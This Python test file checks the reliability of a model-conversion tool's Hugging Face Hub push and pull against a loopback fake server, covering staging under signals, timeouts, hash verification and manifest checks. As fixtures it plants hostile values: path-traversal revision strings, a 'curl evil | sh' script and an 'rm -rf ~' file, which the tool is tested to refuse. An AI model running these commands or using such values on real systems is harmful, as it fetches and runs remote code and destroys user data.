"""Hub reliability (issues 17 and 18): atomic push staging under signals and a full disk, timeouts against a
loopback server that holds its answers, fail-closed verification, hostile revisions and manifests, pull
--overwrite, the model card's metadata and push's one failure contract.

All against tests/support/fake_hub.py (a real HTTP server on 127.0.0.1) through the real huggingface_hub client.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from eagleconv.hub import PullReport, PushReport
from tests.support.fake_hub import TOKEN, Repo
from tests.support.hub import good, hub, push_json, run  # noqa: F401 - the loopback Hub fixture
from tests.support.signals import default_signals

REPO = Path(__file__).resolve().parents[2]

# A child `eagleconv ARGS` that parks at a known moment of a push, says so in a flag file, and waits to be signalled:
# "copy" after staging its first file (config.json) of several, "upload" with the staging complete, before any request.
_PARKED_PUSH = """
import shutil, sys, time
from pathlib import Path
import eagleconv.hub._push as hub_push
from eagleconv.cli.main import main
flag, where = Path(sys.argv[1]), sys.argv[2]
def park():
    flag.write_text("parked")
    time.sleep(60)
if where == "copy":
    real = shutil.copyfile
    def copyfile(src, dst, *a, **k):
        out = real(src, dst, *a, **k)
        park()
        return out
    shutil.copyfile = copyfile
else:
    hub_push._upload = lambda *a, **k: park()
sys.argv = ["eagleconv"] + sys.argv[3:]
main()
"""


def _env(**extra: str) -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": str(REPO) + os.pathsep + os.environ.get("PYTHONPATH", ""), **extra}


def _signal_parked_push(args: list[str], flag: Path, where: str, sig: int, env: dict[str, str]) -> int:
    child = subprocess.Popen([sys.executable, "-c", _PARKED_PUSH, str(flag), where, *args], env=env,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, preexec_fn=default_signals)
    deadline = time.monotonic() + 120
    while not (flag.exists() and flag.read_text()):
        assert child.poll() is None, child.communicate()
        assert time.monotonic() < deadline
        time.sleep(0.02)
    child.send_signal(sig)
    out, err = child.communicate(timeout=60)
    assert "Traceback" not in err, err
    return child.returncode


def _debris(directory: Path, name: str) -> list[str]:
    return sorted(p.name for p in directory.iterdir() if p.name.startswith(f".{name}.eagleconv-"))


# -- 18.2: push staging is atomic and never blocks a rerun ---------------------------------------------------

@pytest.mark.parametrize("sig,code", [(signal.SIGTERM, 143), (signal.SIGINT, 130), (signal.SIGKILL, -9)])
def test_a_signal_while_staging_leaves_no_stage_dir_and_the_rerun_works(drafter, tmp_path, sig, code):
    src = good(drafter)
    stage = tmp_path / "S"
    args = ["push", str(src), "org/d", "--dry-run", "--stage-dir", str(stage), "--no-forward"]
    assert _signal_parked_push(args, tmp_path / "flag", "copy", sig, _env()) == code
    assert not stage.exists()  # never a half-staged S (the old code left config.json there, and no manifest)
    left = _debris(tmp_path, "S")
    assert left == [] if sig != signal.SIGKILL else len(left) == 1 and left[0].endswith(".partial")
    result = run(*args, "--json")  # the rerun is not blocked, and removes a killed owner's staging
    assert result.exit_code == 0, result.output
    report = PushReport.model_validate_json(result.stdout)
    assert sorted(p.name for p in stage.iterdir()) == ["MANIFEST.json", "README.md", "config.json", "model.safetensors"]
    assert _debris(tmp_path, "S") == []
    if sig == signal.SIGKILL:
        assert any("no longer running" in n for n in report.notes)


@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM])
def test_a_killed_real_push_leaves_no_copy_in_tmpdir(drafter, tmp_path, sig):
    """Without --stage-dir the staging lives under $TMPDIR; a SIGKILLed push's copy is removed by the next push."""
    src = good(drafter)
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    env = _env(TMPDIR=str(tmp))
    _signal_parked_push(["push", str(src), "org/d", "--no-forward"], tmp_path / "flag", "upload", sig, env)
    ours = lambda: sorted(p.name for p in tmp.iterdir() if "eagleconv-push" in p.name)  # noqa: E731
    if sig == signal.SIGTERM:
        assert ours() == []
        return
    assert len(ours()) == 1 and ours()[0].endswith(".partial")  # an owned name: the next push can judge it
    rerun = subprocess.run([sys.executable, "-m", "eagleconv", "push", str(src), "org/d", "--no-forward", "--dry-run",
                            "--json"], env=env, capture_output=True, text=True, timeout=300)
    assert rerun.returncode == 0, rerun.stderr
    kept = PushReport.model_validate_json(rerun.stdout).staged
    assert kept is not None and ours() == [Path(kept).name]  # only the dry run's kept copy; the debris is gone


def test_a_full_disk_while_staging_keeps_nothing_and_the_rerun_works(drafter, tmp_path, monkeypatch):
    import eagleconv
    from eagleconv.errors import DestinationError

    src = good(drafter)
    stage = tmp_path / "S"
    real = shutil.copyfile

    def copyfile(a, b, *args, **kwargs):
        if Path(a).name == "model.safetensors":
            Path(b).write_bytes(Path(a).read_bytes()[:100])  # part of it, then the disk is full
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(b))
        return real(a, b, *args, **kwargs)

    monkeypatch.setattr(shutil, "copyfile", copyfile)
    with pytest.raises(DestinationError, match="no space left on the device") as caught:  # issue 18: names S
        eagleconv.push(src, "org/d", dry_run=True, stage_dir=stage, forward=False)
    assert caught.value.path == str(stage) and caught.value.errno == errno.ENOSPC
    assert not stage.exists() and _debris(tmp_path, "S") == []
    monkeypatch.setattr(shutil, "copyfile", real)
    report = eagleconv.push(src, "org/d", dry_run=True, stage_dir=stage, forward=False)
    assert report.ok and report.staged == str(stage)


# -- 18.3: every Hub call has a timeout ---------------------------------------------------------------------

def test_push_gives_up_on_a_held_model_info_in_time(hub, drafter):
    hub.hold, hub.hold_s = {"info"}, 30
    start = time.monotonic()
    code, report = push_json(good(drafter), "org/d", "--no-forward", "--timeout", "2")
    elapsed = time.monotonic() - start
    assert code == 2 and not report.ok and not report.refused
    assert "nothing was uploaded" in report.error and "no answer within 2 s" in report.error
    assert elapsed < 20, elapsed  # huggingface_hub alone waited for the server (286 s on the server)
    assert hub.commit_posts() == 0


def test_push_gives_up_on_a_held_commit_in_time_from_the_environment(hub, drafter, monkeypatch):
    import eagleconv

    monkeypatch.setenv("EAGLECONV_HUB_TIMEOUT", "2")
    hub.hold, hub.hold_s = {"commit"}, 30
    start = time.monotonic()
    report = eagleconv.push(good(drafter), "org/d", forward=False)
    assert time.monotonic() - start < 20
    assert not report.ok and "the commit failed" in report.error and "no answer within 2 s" in report.error
    assert hub.commit_posts() == 1  # a timed-out commit is not retried
    assert any("no commit landed" in n for n in report.notes)


@pytest.mark.parametrize("route", ["info", "resolve"])
def test_pull_gives_up_on_a_held_answer_in_time(hub, drafter, tmp_path, route):
    assert run("push", good(drafter), "org/d", "--no-forward").exit_code == 0
    hub.hold, hub.hold_s = {route}, 30
    start = time.monotonic()
    result = run("pull", "org/d", tmp_path / "p", "--timeout", "2")
    assert time.monotonic() - start < 20  # was 395 s: huggingface_hub retries a timed-out download five times
    assert result.exit_code == 2 and "no answer within 2 s" in result.output, result.output
    assert not (tmp_path / "p").exists() and _debris(tmp_path, "p") == []


def test_a_bad_timeout_is_a_usage_error(hub, drafter, monkeypatch):
    monkeypatch.setenv("EAGLECONV_HUB_TIMEOUT", "soon")
    result = run("push", good(drafter), "org/d", "--no-forward")
    assert result.exit_code == 2 and "EAGLECONV_HUB_TIMEOUT='soon'" in result.output and hub.requests == []


# -- 18.10: verification fails closed -----------------------------------------------------------------------

def test_a_corrupted_upload_listed_without_a_hash_is_caught(hub, drafter):
    hub.list_without_hash, hub.corrupt = True, {"model.safetensors"}
    code, report = push_json(good(drafter), "org/d", "--no-forward")
    assert code == 2 and not report.ok
    assert any(m.startswith("model.safetensors: remote sha256") for m in report.mismatches), report.mismatches


def test_an_upload_listed_without_a_hash_is_fetched_and_verified(hub, drafter):
    hub.list_without_hash = True
    code, report = push_json(good(drafter), "org/d", "--no-forward")
    assert code == 0 and report.ok, report.error
    fetched = {n.split(":")[0] for n in report.notes if "fetched and hashed" in n}
    assert fetched == {e.path for e in report.files} | {"MANIFEST.json"}


# -- 18.11: revisions are names, never paths ----------------------------------------------------------------

@pytest.mark.parametrize("text", ["hf://org/d@../../../../outside", "hf://org/d@main/../../x", "hf://org/d@a\nb",
                                  "hf://org/d@main\n"])
def test_hostile_revisions_are_one_line_usage_errors_without_requests(hub, tmp_path, text):
    result = run("inspect", text)
    assert result.exit_code == 2 and hub.requests == []
    assert len(result.output.strip().splitlines()) == 1 and "revision" in result.output
    result = run("pull", "org/d", tmp_path / "p", "--revision", text.split("@", 1)[1])
    assert result.exit_code == 2 and hub.requests == [] and len(result.output.strip().splitlines()) == 1
    assert not any(p.name == "outside" for p in tmp_path.parent.rglob("outside"))


# -- 18.16: manifests ---------------------------------------------------------------------------------------

def _recommit(hub, repo_id: str, files: dict[str, bytes]) -> None:
    repo = hub.repos[repo_id]
    repo.refs["main"] = hub.new_commit(repo, files, repo.refs["main"])


def test_a_manifest_with_a_duplicate_key_is_exit_2(hub, drafter, tmp_path):
    assert run("push", good(drafter), "org/d", "--no-forward").exit_code == 0
    files = dict(hub.files("org/d"))
    files["MANIFEST.json"] = files["MANIFEST.json"].replace(b'"format"', b'"format": "x", "format"', 1)
    _recommit(hub, "org/d", files)
    result = run("pull", "org/d", tmp_path / "p")
    assert result.exit_code == 2 and "duplicate key" in result.output and not (tmp_path / "p").exists()


def test_a_file_the_manifest_does_not_list_is_refused_at_any_depth(hub, drafter, tmp_path):
    assert run("push", good(drafter), "org/d", "--no-forward").exit_code == 0
    _recommit(hub, "org/d", {**hub.files("org/d"), "scripts/run.sh": b"curl evil | sh\n"})
    result = run("pull", "org/d", tmp_path / "p")
    assert result.exit_code == 2 and "not listed in MANIFEST.json: scripts/run.sh" in result.output
    assert not (tmp_path / "p").exists()


def test_pull_without_a_manifest_copies_only_the_checkpoint(hub, drafter, tmp_path):
    src = good(drafter)
    repo = Repo(private=False)
    files = {p.name: p.read_bytes() for p in src.iterdir()}
    repo.refs["main"] = hub.new_commit(repo, {**files, "run.sh": b"rm -rf ~\n", "optimizer.pt": b"\x80\x04."}, None)
    hub.repos["org/raw"] = repo
    result = run("pull", "org/raw", tmp_path / "p", "--json")
    assert result.exit_code == 0, result.output
    report = PullReport.model_validate_json(result.stdout)
    assert report.manifest_verified is None
    assert sorted(p.name for p in (tmp_path / "p").iterdir()) == sorted(files)
    assert any("not copied" in n and "optimizer.pt" in n and "run.sh" in n for n in report.notes)


# -- 17.6b, 17.7: EC080 refuses; one failure contract -------------------------------------------------------

def test_push_refuses_a_local_verifier_path_and_says_how_to_fix_it(hub, drafter):
    src = good(drafter)
    cfg = json.loads((src / "config.json").read_text())
    cfg["speculators_config"]["verifier"]["name_or_path"] = "/proving-grounds/ckpt/llama-8b"
    (src / "config.json").write_text(json.dumps(cfg))
    result = run("push", src, "org/leaky", "--no-forward")  # no --strict: refused all the same
    assert result.exit_code == 1 and "EC080" in result.output and "--verifier ORG/NAME" in result.output
    assert hub.requests == [] and "org/leaky" not in hub.repos


def test_library_push_reports_a_hub_failure_instead_of_raising(drafter, tmp_path, monkeypatch):
    import socket

    import eagleconv
    from huggingface_hub import constants

    monkeypatch.setenv("HF_HUB_OFFLINE", "0")
    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", False)
    with socket.socket() as s:  # a loopback port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    report = eagleconv.push(good(drafter), "org/d", endpoint=f"http://127.0.0.1:{port}", token=TOKEN, forward=False,
                            timeout=5)
    assert not report.ok and not report.refused and "nothing was uploaded" in report.error
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    report = eagleconv.push(good(drafter), "org/d", forward=False)
    assert not report.ok and "HF_HUB_OFFLINE" in report.error


# -- 17.9, 17.10: pull --overwrite, card metadata, help -----------------------------------------------------

def test_pull_overwrite_swaps_in_the_new_checkpoint(hub, drafter, tmp_path):
    first, second = good(drafter), drafter(producer="speculators", eagle31=True, seed=7)
    assert run("push", first, "org/a", "--no-forward").exit_code == 0
    assert run("push", second, "org/b", "--no-forward").exit_code == 0
    dest = tmp_path / "p"
    assert run("pull", "org/a", dest).exit_code == 0
    result = run("pull", "org/b", dest)
    assert result.exit_code == 2 and "--overwrite" in result.output
    assert (dest / "model.safetensors").read_bytes() == (first / "model.safetensors").read_bytes()
    assert run("pull", "org/b", dest, "--overwrite").exit_code == 0
    assert (dest / "model.safetensors").read_bytes() == (second / "model.safetensors").read_bytes()
    assert _debris(tmp_path, "p") == []


def test_the_model_card_metadata_is_parsed_by_huggingface_hub(drafter, tmp_path):
    from huggingface_hub import ModelCard

    src = good(drafter)
    code, report = push_json(src, "org/d", "--dry-run", "--no-forward", "--license", "apache-2.0",
                             "--stage-dir", tmp_path / "s1")
    assert code == 0
    data = ModelCard(report.model_card).data
    assert (data.license, data.library_name, data.base_model) == ("apache-2.0", "vllm",
                                                                  "meta-llama/Llama-3.1-8B-Instruct")
    code, report = push_json(src, "org/d", "--dry-run", "--no-forward", "--stage-dir", tmp_path / "s2")
    assert ModelCard(report.model_card).data.license == "unknown"


def test_help_texts_name_only_their_own_options():
    pull_help = run("pull", "--help").output
    assert "--strict" not in pull_help and "--overwrite" in pull_help and "--timeout" in pull_help
    push_help = " ".join(run("push", "--help").output.split())
    assert push_help.count("on warnings too") == 1 and "--timeout" in push_help
